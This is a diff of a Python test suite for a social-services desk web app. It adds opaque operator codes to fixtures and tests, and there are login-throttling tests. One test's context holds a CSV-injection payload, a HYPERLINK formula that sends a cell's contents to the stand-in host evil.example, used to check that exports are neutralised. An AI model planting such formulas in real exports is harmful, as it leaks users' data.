@@ -90,11 +90,13 @@ class Desk:
 
 
 # Maria and Giulia were added before migration desk-7: their actors are `desk.<username>`, as the facts the tests
-# answer with carry (a staff operator added since has an opaque one: test_a_staff_operators_opaque_actor_…)
-MARIA = Operator("maria", "Maria Rossi", OperatorRole.STAFF, "torino", None, "desk.maria")
-GIULIA = Operator("giulia", "Giulia Verdi", OperatorRole.STAFF, "torino", None, "desk.giulia")
-LUCA = Operator("luca", "Luca Bianchi", OperatorRole.PARTNER, "torino", "coop-aurora")
-SARA = Operator("sara", "Sara Carso", OperatorRole.PARTNER, "trieste", "coop-carso")
+# answer with carry (a staff operator added since has an opaque one: test_a_staff_operators_opaque_actor_…); all four
+# before migration desk-9: their codes (an appointment's operator, an outing's staff) are their usernames (one added
+# since has a drawn one: test_an_operator_added_since_codes_is_sent_and_named_by_her_code)
+MARIA = Operator("maria", "Maria Rossi", OperatorRole.STAFF, "torino", None, "desk.maria", "maria")
+GIULIA = Operator("giulia", "Giulia Verdi", OperatorRole.STAFF, "torino", None, "desk.giulia", "giulia")
+LUCA = Operator("luca", "Luca Bianchi", OperatorRole.PARTNER, "torino", "coop-aurora", code="luca")
+SARA = Operator("sara", "Sara Carso", OperatorRole.PARTNER, "trieste", "coop-carso", code="sara")
 RPD = Operator("rpd", "RPD Torino", OperatorRole.DPO, "torino", None)
 
 
@@ -223,7 +225,7 @@ async def test_a_staff_operators_opaque_actor_is_named_and_is_hers_for_the_four_
     """A staff operator added since migration desk-7 acts on the services as an opaque actor the desk drew for her
     (`desk.op-…`), one added before as `desk.<username>`: the pages name both by their display names, and the
     approvals know her own requests by the actor stored with her (payments' four-eyes rule: two staff, two actors)."""
-    nora = Operator("nora", "Nora Galli", OperatorRole.STAFF, "torino", None, "desk.op-9c03e1d27b4a")
+    nora = Operator("nora", "Nora Galli", OperatorRole.STAFF, "torino", None, "desk.op-9c03e1d27b4a", "op-9c03e1d27b4b")
     today, earlier = clock.today().isoformat(), (clock.today() - timedelta(days=40)).isoformat()
     serve_the_cartella(desk.services, today, earlier)
     desk.services.answers[("intake", "GET", "/persons/p-1/notes")] = [
@@ -364,7 +366,7 @@ async def test_the_access_log_csv_never_holds_a_formula_a_partner_wrote(desk: De
     cells away; `=cmd|…` on older Excel). Every text cell that a spreadsheet would read as a formula is exported as
     text (OWASP's "CSV injection": a leading `'`); the page shows the id as it is."""
     formula = '=HYPERLINK("https:"&CHAR(47)&CHAR(47)&"evil.example?"&B3,"Apri")'
-    aurora = Operator("aurora", "Operatrice Aurora", OperatorRole.PARTNER, "torino", "coop-aurora")
+    aurora = Operator("aurora", "Operatrice Aurora", OperatorRole.PARTNER, "torino", "coop-aurora", code="aurora")
     refusal = {"status": 403, "field": "person_id", "reason": "not a person of your cases"}
     ids = (formula, "+1+1", "-2+3", "@SUM(1)", "\tx", "p-1")
     for pid in ids:
@@ -773,7 +775,9 @@ async def test_a_username_that_is_also_a_partners_id_names_each_where_it_belongs
         ("intake", "GET", "/mobile-units"): [{"unit_id": "unit-7f3a", "name": "Unità Nord", "area": "nord",
                                               "vehicle": None, "team_size": 2, "partner": "coop-aurora"}],
     }  # fmt: skip
-    anna = Operator("coop-aurora", "Anna Sola", OperatorRole.STAFF, "torino", None, "desk.op-a5017a000001")
+    anna = Operator(
+        "coop-aurora", "Anna Sola", OperatorRole.STAFF, "torino", None, "desk.op-a5017a000001", "coop-aurora"
+    )
     await desk.as_operator(anna)
     await desk.as_operator(MARIA)
     text = text_of((await desk.client.get(f"/agenda?day={tomorrow.isoformat()}")).text)
@@ -803,6 +807,67 @@ def outreach_services(services: FakeServices) -> list[dict[str, Any]]:
         ("intake", "POST", "/outings"): record,
     }  # fmt: skip
     return posted
+
+
+async def test_an_operator_added_since_codes_is_sent_and_named_by_her_code(desk: Desk) -> None:
+    """A review: the desk sent an operator's username (usually her name) as an appointment's operator and an outing's
+    staff, in clear in intake's facts. One added since migration desk-9 is sent as the code the desk drew for her
+    (typed by username, hers or a colleague's of the cooperative); one added before keeps her username as her code.
+    The agenda, the outing and the to-do list name both forms; intake's refusal naming a drawn code says her name."""
+    ines = Operator(
+        "ines.conti", "Ines Conti", OperatorRole.STAFF, "torino", None, "desk.op-1e5c0a000001", "op-1e5c0a000002"
+    )
+    piero = Operator("piero.vela", "Piero Vela", OperatorRole.PARTNER, "torino", "coop-aurora", code="op-9e40a0000003")
+    await desk.as_operator(piero)
+    await desk.as_operator(LUCA)
+    booked = agenda_services(desk.services)
+    posted = outreach_services(desk.services)
+    tomorrow, today = (clock.today() + timedelta(days=1)).isoformat(), clock.today().isoformat()
+    form = {"day": tomorrow, "time": "10:00", "minutes": "30", "party": "p-1", "purpose": "plan_review"}
+    await desk.as_operator(ines)
+    for operator in ("", "piero.vela", "maria"):  # herself (left blank), a cooperative's new operator, an old one
+        r = await desk.client.post("/agenda", data=form | {"csrf": "csrf-ines.conti", "operator": operator})
+        assert r.status_code == 303, text_of(r.text)
+    assert [b["operator"] for b in booked] == ["op-1e5c0a000002", "op-9e40a0000003", "maria"]
+    outing = {"unit_id": "unit-7f3a", "on": today, "start_time": "20:00", "end_time": "23:00", "places": "Porta Nuova"}
+    r = await desk.client.post("/outreach/outings", data=outing | {"csrf": "csrf-ines.conti", "staff": ""})
+    assert r.status_code == 303, text_of(r.text)
+    r = await desk.client.post(
+        "/outreach/outings", data=outing | {"csrf": "csrf-ines.conti", "staff": "ines.conti\npiero.vela\nluca"}
+    )
+    assert r.status_code == 303, text_of(r.text)
+    assert [o["staff"] for o in posted] == [["op-1e5c0a000002"], ["op-1e5c0a000002", "op-9e40a0000003", "luca"]]
+    sent = b"".join(r.content for r in desk.services.requests)
+    assert b"ines.conti" not in sent and b"piero.vela" not in sent
+
+    def appointment(aid: str, operator: str) -> dict[str, Any]:
+        return {"appointment_id": aid, "agenda": "desk", "operator": operator, "unit_id": None, "person_id": None,
+                "street_id": "st-1", "purpose": "plan_review", "starts_at": f"{tomorrow}T09:00:00+00:00",
+                "ends_at": f"{tomorrow}T09:30:00+00:00", "status": "booked", "outcome": None,
+                "booked_by": "desk.maria"}  # fmt: skip
+
+    desk.services.answers |= {
+        ("intake", "GET", "/appointments"): [appointment("apt-1", "op-9e40a0000003"), appointment("apt-2", "maria")],
+        ("intake", "GET", "/outings/out-1"): {"outing_id": "out-1", "unit_id": "unit-7f3a", "on": today,
+                                              "start_time": "20:00:00", "end_time": "23:00:00",
+                                              "places": ["Porta Nuova"], "staff": ["op-1e5c0a000002", "luca"],
+                                              "contacts": []},
+        ("intake", "GET", "/appointments/reminders/open"): [
+            {"kind": "appointment_reminder_due", "case_id": None, "appointment_id": "apt-1",
+             "operator": "op-9e40a0000003", "person_id": None, "street_id": "st-1", "purpose": "plan_review",
+             "starts_at": f"{tomorrow}T09:00:00+00:00", "due_on": today, "since": today}],
+    }  # fmt: skip
+    agenda = text_of((await desk.client.get(f"/agenda?day={tomorrow}")).text)
+    assert "Piero Vela" in agenda and "Maria Rossi" in agenda and "op-9e40a0000003" not in agenda, agenda
+    shown = await desk.client.get("/outreach/outings/out-1")
+    assert shown.status_code == 200 and "Ines Conti, Luca Bianchi" in text_of(shown.text), text_of(shown.text)
+    todo = text_of((await desk.client.get("/todo")).text)
+    assert "Piero Vela" in todo and "op-9e40a0000003" not in todo, todo
+    clash = {"status": 409, "field": "starts_at", "reason": "operator op-9e40a0000003 is already booked at that time"}
+    desk.services.answers[("intake", "POST", "/appointments")] = httpx.Response(409, json=clash)
+    r = await desk.client.post("/agenda", data=form | {"csrf": "csrf-ines.conti", "operator": "piero.vela"})
+    assert r.status_code == 422 and "l'operatore Piero Vela ha già un appuntamento" in text_of(r.text), text_of(r.text)
+    assert "op-9e40a0000003" not in r.text
 
 
 async def test_a_refused_outing_is_said_at_its_field_and_the_form_kept(desk: Desk) -> None:
@@ -2912,7 +2977,9 @@ async def with_password(desk: Desk, op: Operator, password: str) -> None:
 async def test_wrong_passwords_from_one_address_do_not_lock_the_operator_out_elsewhere(desk: Desk) -> None:
     """A DPO's review: five wrong passwords locked the account for everyone, so anyone could lock any operator
     out. The lock is now of the account from the address that failed: the operator still logs in from hers."""
-    nadia = Operator("nadia", "Nadia Ferri", OperatorRole.STAFF, "torino", None, "desk.op-0ad1a0000001")
+    nadia = Operator(
+        "nadia", "Nadia Ferri", OperatorRole.STAFF, "torino", None, "desk.op-0ad1a0000001", "op-0ad1a0000002"
+    )
     await with_password(desk, nadia, "la-password-di-nadia")
     for _ in range(desk.settings.max_failures):
         assert (await login_from(desk, "203.0.113.7", "nadia", "sbagliata")).status_code == 401
@@ -2943,7 +3010,7 @@ async def test_one_address_trying_many_accounts_is_slowed(desk: Desk) -> None:
     """A DPO's review: password spraying (one password on many accounts from one client) was never slowed, each
     account's count staying under its lock. An address with too many failures in the window is refused whatever
     account it tries, the right password included; another address is not."""
-    olga = Operator("olga", "Olga Neri", OperatorRole.STAFF, "torino", None, "desk.op-01a000000001")
+    olga = Operator("olga", "Olga Neri", OperatorRole.STAFF, "torino", None, "desk.op-01a000000001", "op-01a000000002")
     await with_password(desk, olga, "la-password-di-olga")
     for n in range(desk.settings.client_max_failures):
         assert (await login_from(desk, "192.0.2.66", f"utente{n}", "Estate2026!")).status_code == 401
@@ -3359,7 +3426,9 @@ async def test_a_note_sent_after_the_session_lapsed_is_offered_again_after_the_l
     recorded yet; the form keeps its key, so sending it is one request whatever happened before."""
     today = clock.today().isoformat()
     serve_the_cartella(desk.services, today, today)
-    nadia = Operator("nadia", "Nadia Ferri", OperatorRole.STAFF, "torino", None, "desk.op-0ad1a0000001")
+    nadia = Operator(
+        "nadia", "Nadia Ferri", OperatorRole.STAFF, "torino", None, "desk.op-0ad1a0000001", "op-0ad1a0000002"
+    )
     await desk.as_operator(nadia)
     async with desk.pool.acquire() as conn:
         await store.set_password_hash(conn, "nadia", login.HASHER.hash("la-password-di-nadia"))
@@ -3385,7 +3454,7 @@ async def test_a_note_sent_after_the_session_lapsed_is_offered_again_after_the_l
     csrf = re.search(r'name="csrf" value="([^"]+)"', form.text)
     assert csrf is not None
     # Another operator logging in on that browser is not given it.
-    ugo = Operator("ugo", "Ugo Neri", OperatorRole.STAFF, "torino", None, "desk.op-0a0000000001")
+    ugo = Operator("ugo", "Ugo Neri", OperatorRole.STAFF, "torino", None, "desk.op-0a0000000001", "op-0a0000000002")
     await with_password(desk, ugo, "la-password-di-ugo")
     login_as = {"csrf": csrf.group(1), "username": "ugo", "password": "la-password-di-ugo"}
     assert (await desk.client.post("/login", data=login_as)).headers["location"] == "/"
@@ -3802,7 +3871,7 @@ async def test_a_case_is_closed_at_the_desk_with_its_outcome_by_staff_or_its_par
     # the case's cooperative closes it too; another cooperative's operator is offered no form for it
     await desk.as_operator(LUCA)
     assert 'action="/persons/p-1/closures"' in (await desk.client.get("/persons/p-1")).text
-    borgo = Operator("borgo", "Operatrice Borgo", OperatorRole.PARTNER, "torino", "coop-borgo")
+    borgo = Operator("borgo", "Operatrice Borgo", OperatorRole.PARTNER, "torino", "coop-borgo", code="op-b0760000001a")
     await desk.as_operator(borgo)
     assert 'action="/persons/p-1/closures"' not in (await desk.client.get("/persons/p-1")).text
 
